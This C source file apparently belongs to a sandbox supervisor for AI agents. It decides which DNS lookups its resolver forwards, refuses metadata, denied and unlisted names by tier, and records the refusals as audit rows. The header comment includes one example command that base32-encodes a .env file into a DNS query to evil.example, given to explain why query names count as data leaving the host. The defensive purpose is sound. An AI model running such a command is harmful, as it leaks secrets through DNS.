/*
 * lookups.c: the session resolver's decision on each queried name, and
 * the audit rows of the lookups it refuses.
 *
 * A query name is itself data leaving the host (`dig $(base32 .env).evil.example`
 * reaches the authoritative server of evil.example whatever becomes of the
 * connection), so the resolver (resolver.c) asks here before it forwards
 * anything, on the name the client asked for (pol_net_lookup_decide): a
 * cloud metadata name or a name a network.deny entry matches is refused in
 * every tier; a name no entry allows is refused in the passive tier and in
 * review runs, whatever their tier (where its connection would be refused
 * too), and forwarded in standard and aggressive (the connection
 * that follows is decided; the name itself still reaches the DNS servers:
 * a residual); an allowed name (network.allow, or the host of an agent
 * harness endpoint) is forwarded. A search-domain expansion (name + a
 * suffix from resolv.conf) is just another queried name.
 *
 * Rows: each refused name gets one row per session (glibc retries and asks
 * A and AAAA: the first query's type is kept). The store is one connection
 * per thread, so the resolver's thread fills rows[n] and publishes it by
 * |nrows| (release), then wakes the loop through |efd|; the loop writes
 * rows[written..nrows) (acquire) and never touches a slot still being
 * written. The REFUSED answer goes out before the row is written: nothing
 * ran and nothing left, the row only records it. At most LK_ROWS_MAX names
 * get rows; refusals past that are counted (--stats "lookup rows dropped")
 * and written as one row at the end, so a flood of distinct names costs
 * nothing that grows. The resolver cannot know which process asked (a
 * datagram on loopback carries no pid warden could trust), so the rows
 * have pid 0.
 */
#include "dns_int.h"
#include "sup.h"

#include <errno.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>

#define LK_ROWS_MAX 1024 /* refused names with a row of their own */
#define LK_REASON   400

/* A refused lookup's row, handed from the resolver's thread to the loop. */
struct lk_row {
	char name[SUP_DNS_NAME_MAX]; /* lower case, no final dot */
	uint32_t hash;
	uint16_t qtype;
	enum pol_source source;
	char reason[LK_REASON];
};

struct sup_lookups {
	/* Set by sup_lookups_arm() before |armed| (release); read by the
	 * resolver's thread only once it sees |armed| (acquire). The
	 * config's network entries and harness endpoints do not change
	 * after that (grants, which do, are not read here). */
	const struct pol_config *config;
	bool refuse_undecided; /* passive, or any review run */
	const char *note;
	_Atomic bool armed;
	struct lk_row *rows;
	_Atomic size_t nrows;
	size_t written;	     /* the loop's */
	struct sup_run *run; /* the loop's, from sup_lookups_watch */
	int efd;
	_Atomic uint64_t refused, dropped;
};

struct sup_lookups *sup_lookups_new(void)
{
	int efd = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
	if (efd < 0)
		return NULL;
	struct sup_lookups *l = wd_calloc(1, sizeof(*l));
	l->efd = efd;
	l->rows = wd_calloc(LK_ROWS_MAX, sizeof(*l->rows));
	return l;
}

void sup_lookups_free(struct sup_lookups *l)
{
	if (!l)
		return;
	wd_close(&l->efd);
	free(l->rows);
	free(l);
}

void sup_lookups_arm(struct sup_lookups *l, const struct sup_run *r)
{
	/* The tier the pipeline decides an undecided connection with
	 * (pipeline.c's effective tier, settled by then in r->opts.tier):
	 * fixed for the run. */
	enum pol_tier t = r->opts.tier;
	l->config = r->config;
	/* A review run refuses every connection policy did not allow,
	 * whatever the tier (connect.c, sup_connect_machinery): so does it
	 * every lookup. */
	l->refuse_undecided =
		r->opts.review || (t != POL_TIER_AGGRESSIVE && t != POL_TIER_STANDARD);
	l->note = r->opts.review ? "review run" : "passive mode";
	atomic_store_explicit(&l->armed, true, memory_order_release);
}

static uint32_t name_hash(const char *s)
{
	uint32_t h = 2166136261u;
	for (; *s; s++)
		h = (h ^ (uint8_t)*s) * 16777619u;
	return h;
}

/* Hands the refusal of |low| to the loop as a row, once per name. */
static void row_for(struct sup_lookups *l, const char *low, uint16_t qtype, enum pol_source src,
		    const char *reason)
{
	size_t n = atomic_load_explicit(&l->nrows, memory_order_relaxed);
	uint32_t h = name_hash(low);
	for (size_t i = 0; i < n; i++)
		if (l->rows[i].hash == h && strcmp(l->rows[i].name, low) == 0)
			return; /* glibc's retries, A and AAAA: one row */
	if (n == LK_ROWS_MAX) {
		atomic_fetch_add(&l->dropped, 1);
		return;
	}
	struct lk_row *w = &l->rows[n];
	snprintf(w->name, sizeof(w->name), "%s", low);
	w->hash = h;
	w->qtype = qtype;
	w->source = src;
	snprintf(w->reason, sizeof(w->reason), "%s", reason);
	atomic_store_explicit(&l->nrows, n + 1, memory_order_release);
	uint64_t one = 1;
	(void)!write(l->efd, &one, sizeof(one));
}

bool sup_lookups_allow(struct sup_lookups *l, const char *name, uint16_t qtype)
{
	if (!atomic_load_explicit(&l->armed, memory_order_acquire))
		return false; /* before the agent exists: nothing to forward */
	char low[SUP_DNS_NAME_MAX];
	size_t k = strlen(name);
	if (k && name[k - 1] == '.')
		k--;
	if (k >= sizeof(low))
		return false;
	for (size_t i = 0; i < k; i++)
		low[i] = (char)((name[i] >= 'A' && name[i] <= 'Z') ? name[i] + 32 : name[i]);
	low[k] = '\0';
	char why[LK_REASON - 100], reason[LK_REASON];
	enum pol_verdict v = pol_net_lookup_decide(l->config, low, why, sizeof(why), NULL, 0);
	if (v == POL_ALLOW || (v == POL_UNDECIDED && !l->refuse_undecided))
		return true;
	enum pol_source src;
	if (v == POL_UNDECIDED) {
		src = POL_SRC_TIER;
		snprintf(reason, sizeof(reason),
			 "%s: %s is not in network.allow, so it is not looked up (its DNS servers "
			 "would see the name); the resolver cannot tell which process asked",
			 l->note, low);
	} else {
		src = v == POL_DENY_CRITICAL ? POL_SRC_HARD_DENY : POL_SRC_RULE;
		snprintf(reason, sizeof(reason), "%s; the resolver cannot tell which process asked",
			 why);
	}
	atomic_fetch_add(&l->refused, 1);
	wd_debug("resolver: refused a lookup of %s (%s)", low, pol_source_name(src));
	row_for(l, low, qtype, src, reason);
	return false;
}

static const char *qtype_name(uint16_t t, char *buf, size_t n)
{
	switch (t) {
	case 1:
		return "A";
	case 28:
		return "AAAA";
	case 5:
		return "CNAME";
	case 12:
		return "PTR";
	case 15:
		return "MX";
	case 16:
		return "TXT";
	case 33:
		return "SRV";
	case 65:
		return "HTTPS";
	default:
		snprintf(buf, n, "TYPE%u", (unsigned)t);
		return buf;
	}
}

static void write_row(struct sup_run *r, const char *name, const char *type, const char *summary,
		      enum pol_source src, const char *reason)
{
	struct wd_sb req = {0};
	wd_sb_puts(&req, "{\"syscall\":\"lookup\",\"name\":");
	wd_sb_json_str(&req, name);
	wd_sb_puts(&req, ",\"type\":");
	wd_sb_json_str(&req, type);
	wd_sb_puts(&req, "}");
	/* pid 0: the resolver cannot know which process asked. */
	struct sto_row row = {
		.ts_us = wd_now_real_us(),
		.session = r->session_id,
		.kind = pol_kind_name(POL_CONNECT),
		.request = req.buf,
		.summary = summary,
		.decision = "deny",
		.source = pol_source_name(src),
		.reason = reason,
		.decided_by = "warden",
	};
	int rc = sto_append(r->db, &row, NULL);
	r->stats.rows++;
	if (rc < 0) {
		r->audit_failures++;
		wd_err("the audit row for \"%s\" could not be written (%s)", summary,
		       strerror(-rc));
	}
	free(req.buf);
}

/* The loop's thread: writes the rows the resolver published. */
static void write_rows(struct sup_lookups *l, struct sup_run *r)
{
	size_t n = atomic_load_explicit(&l->nrows, memory_order_acquire);
	for (; l->written < n; l->written++) {
		const struct lk_row *w = &l->rows[l->written];
		char tb[16];
		wd_autofree char *sum = wd_asprintf("lookup %s", w->name);
		write_row(r, w->name, qtype_name(w->qtype, tb, sizeof(tb)), sum, w->source,
			  w->reason);
	}
}

static void on_rows(struct sup_loop *loop, int fd, uint32_t events, void *arg)
{
	(void)loop;
	(void)events;
	struct sup_lookups *l = arg;
	uint64_t v;
	(void)!read(fd, &v, sizeof(v));
	if (l->run && l->run->db)
		write_rows(l, l->run);
}

int sup_lookups_watch(struct sup_lookups *l, struct sup_run *r)
{
	l->run = r;
	return sup_loop_add(r->loop, l->efd, EPOLLIN, on_rows, l);
}

void sup_lookups_finish(struct sup_lookups *l, struct sup_run *r)
{
	if (r->loop)
		sup_loop_del(r->loop, l->efd);
	if (!r->db)
		return;
	write_rows(l, r);
	uint64_t more = atomic_load(&l->dropped);
	if (more) {
		wd_autofree char *sum =
			wd_asprintf("lookup of %llu more names", (unsigned long long)more);
		wd_autofree char *why = wd_asprintf(
			"%llu more lookups of names past the first %d refused were refused by "
			"policy; they have no row of their own",
			(unsigned long long)more, LK_ROWS_MAX);
		write_row(r, "*", "*", sum, POL_SRC_TIER, why);
	}
}

void sup_lookups_counts(const struct sup_lookups *l, uint64_t *refused, uint64_t *dropped)
{
	*refused = l ? atomic_load(&l->refused) : 0;
	*dropped = l ? atomic_load(&l->dropped) : 0;
}
